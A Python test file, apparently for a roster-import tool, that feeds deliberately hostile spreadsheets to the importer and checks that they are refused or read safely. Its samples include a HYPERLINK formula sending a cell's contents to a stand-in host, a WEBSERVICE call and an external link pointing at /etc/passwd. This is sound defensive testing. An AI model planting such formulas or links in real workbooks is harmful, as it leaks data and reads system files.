"""Tables made to hurt: refused at the desk in a sentence, in little time and memory, and the book stays as it was."""

import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from fuzzing import each_answered, needs_limits
from hostile_tables import NONE, Hostile, every, parts_of, zipped
from office_books import Desk
from rosters import HEADINGS, NEEDED, good, only, refused, report, write
from soaking import size

from ketnap.exchange import roster
from ketnap.exchange.unreadable import UnreadableFile

pytestmark = pytest.mark.soak("Hostile tables")

STEP = size(4, 1)
"""Of the lists that are no rosters, so many are tried in every command that reads one."""


@needs_limits
def test_each_is_refused_at_the_desk_and_nothing_is_written(desk: Desk, tmp_path: Path, proof: Any) -> None:
    folder = tmp_path / "tables"
    folder.mkdir()
    hostile = list(every(folder))
    lines = [("ho-so", "nhap"), ("to-chuc", "nhap"), ("ho-so", "chuyen-ho-so", "--danh-sach")]

    def judge(one: tuple[tuple[str, ...], Hostile]) -> str:
        line, each = one
        result = desk.run(*line, str(each.path), "--ghi-so" if line[-1] == "nhap" else "--de-du-thao")
        assert result.exit_code == 2, (result.exit_code, result.output)
        assert result.stdout == ""
        assert line[0] != "ho-so" or re.search(each.said, result.stderr), result.stderr
        assert len(result.stderr) < 600
        return "refused"

    before, files = desk.book.dump(), sorted(folder.iterdir())
    tried = [
        (line, each) for n, each in enumerate(hostile) for line in lines if line == lines[0] or n % STEP == 0
    ]
    found = each_answered(tried, judge)
    assert desk.book.dump() == before
    assert sorted(folder.iterdir()) == files
    proof(**found.figures(), files=len(hostile))


def _lies(parts: dict[str, bytes]) -> Iterator[bytes]:
    """The workbook with a number that one of its parts says of itself changed, for each that has a name of its own."""
    for part, content in parts.items():
        places: dict[bytes, re.Match[bytes]] = {}
        for found in re.finditer(rb'([\w:.-]+)="(-?[0-9]+)"', content):
            places.setdefault(found[1], found)
        for found in places.values():
            for lie in (b"-1", b"0", b"65536", b"2147483648", b"18446744073709551615", b"9" * 40, b""):
                changed = content[: found.start(2)] + lie + content[found.end(2) :]
                yield zipped({**parts, part: changed})


@needs_limits
@pytest.mark.parametrize("suffix", [".xlsx", ".ods"])
def test_a_number_that_is_a_lie_harms_nobody(suffix: str, tmp_path: Path, proof: Any) -> None:
    whole = write(tmp_path / "whole.xlsx", [good(1), good(2)])
    if suffix == ".ods":
        whole = tmp_path / "whole.ods"
        with zipfile.ZipFile(whole, "w") as archive:
            for name, content in _open_document().items():
                archive.writestr(name, content)
    path = tmp_path / f"tried{suffix}"

    def judge(content: bytes) -> str:
        path.write_bytes(content)
        try:
            found = report(path)
        except UnreadableFile as error:
            return "refused" if error.sentence.endswith(".") else "refused without a sentence"
        return "read" if found.people <= 3 else "read as many"

    found = each_answered(list(_lies(parts_of(whole)))[:: size(3, 1)], judge)
    assert set(found.answers) <= {"read", "refused"}
    proof(**found.figures())


def _open_document() -> dict[str, bytes]:
    from hostile_tables import ONE_ROW

    cells = "".join(
        f'<table:table-cell table:number-columns-repeated="1" table:number-rows-spanned="1" table:number-columns-spanned="1" '
        f'office:value-type="string"><text:p><text:s text:c="1"/>{each}</text:p></table:table-cell>'
        for each in ("{0}", "{1}", "{2}", "{3}")
    )
    rows = "".join(
        f'<table:table-row table:number-rows-repeated="1">{cells.format(*row)}</table:table-row>'
        for row in (NEEDED, ONE_ROW)
    )
    names = 'xmlns:{0}="urn:oasis:names:tc:opendocument:xmlns:{0}:1.0"'
    content = (
        f"<office:document-content {' '.join(names.format(each) for each in ('office', 'table', 'text'))}><office:body>"
        f'<office:spreadsheet><table:table table:name="A"><table:table-column table:number-columns-repeated="4"/>{rows}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": b"<manifest/>",
        "content.xml": content.encode(),
    }


# ---- what is odd and not hostile is read as it stands


def test_of_a_formula_the_stored_value_is_read_and_nothing_is_worked_out(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        person = good(1)
        for place, (field, heading) in enumerate(zip(person, HEADINGS, strict=False)):
            sheet.write(0, place, heading)
            value = person[field]
            if hasattr(value, "year"):
                sheet.write_datetime(1, place, value, book.add_format({"num_format": "dd/mm/yyyy"}))
            else:
                sheet.write_string(1, place, str(value))
        sheet.write_formula(1, 5, '=HYPERLINK("http://a.example/?"&K2,"Kế toán")', None, "Kế toán")
        sheet.write_formula(1, 15, '=WEBSERVICE("http://a.example")', None, "118/CN")
    row = only(report(path))
    assert row.person.occupation == "Kế toán"


def test_links_to_other_workbooks_are_not_followed(tmp_path: Path) -> None:
    parts = parts_of(write(tmp_path / "whole.xlsx", [good(1)]))
    link = b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    target = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    path = tmp_path / "x.xlsx"
    path.write_bytes(
        zipped(
            {
                **parts,
                "xl/externalLinks/externalLink1.xml": link,
                "xl/externalLinks/_rels/externalLink1.xml.rels": target,
            }
        )
    )
    assert only(report(path)).person.name == good(1)["name"]


def test_merged_cells_hold_what_their_first_cell_holds(tmp_path: Path) -> None:
    path = write(tmp_path / "x.xlsx", [good(1), good(2)], above=[["DANH SÁCH CẢM TÌNH ĐẢNG"], []])
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    sheet.merge_cells("A1:Q2")
    sheet.merge_cells("I4:I5")  # one answer for two people, as lists are often made
    book.save(path)
    found = report(path)
    assert found.people == 2
    assert [row.person.name for row in found.rows] == [good(1)["name"], good(2)["name"]]


def test_of_two_rows_of_headings_the_fuller_one_counts_and_the_other_speaks_of_nobody(tmp_path: Path) -> None:
    above = [
        ["", "Thông tin cá nhân", "", "", "", "", "", "", "", "Tổ chức"],
        ["Họ và tên", "Ngày sinh", "Giới tính"],
    ]
    path = write(tmp_path / "x.xlsx", [good(1)], above=above)
    assert only(report(path)).person.name == good(1)["name"]
    path = write(tmp_path / "y.xlsx", [list(HEADINGS), good(1)])
    found = report(path)
    assert [row.person.name for row in found.rows] == [good(1)["name"]]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1258"])
def test_a_text_is_read_in_whatever_encoding_offices_save_it(encoding: str, tmp_path: Path) -> None:
    import unicodedata

    text = "\r\n".join(
        ";".join(each) for each in (NEEDED, ("Phạm Thị Hồng Ánh", "14/03/2001", "CB-05", "01/04/2025"))
    )
    path = tmp_path / "x.csv"
    path.write_bytes((_taken_apart(text) if encoding == "cp1258" else text).encode(encoding))
    (line,) = roster.read(path).lines
    assert unicodedata.normalize("NFC", str(line.values[0])) == "Phạm Thị Hồng Ánh"


def _taken_apart(text: str) -> str:
    """As code page 1258 has it: the tones are letters of their own."""
    import unicodedata

    found = ""
    for letter in text:
        parts = unicodedata.normalize("NFD", letter)
        tones = "".join(each for each in parts if each in "\u0300\u0301\u0303\u0309\u0323")
        rest = unicodedata.normalize("NFC", "".join(each for each in parts if each not in tones))
        found += rest + tones
    return found


def test_a_table_under_the_name_of_another_kind_is_read_by_what_it_is(tmp_path: Path) -> None:
    whole = write(tmp_path / "x.xlsx", [good(1)])
    renamed = tmp_path / "x.xls"
    renamed.write_bytes(whole.read_bytes())
    assert only(report(renamed)).person.name == good(1)["name"]
    text = tmp_path / "x.doc"
    text.write_bytes(whole.read_bytes())
    assert only(report(text)).person.name == good(1)["name"]


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="there is no such device")
def test_what_has_no_end_is_no_table(tmp_path: Path) -> None:
    endless = tmp_path / "x.csv"
    endless.symlink_to("/dev/zero")
    assert NONE in refused(endless) or "không mở được" in refused(endless)
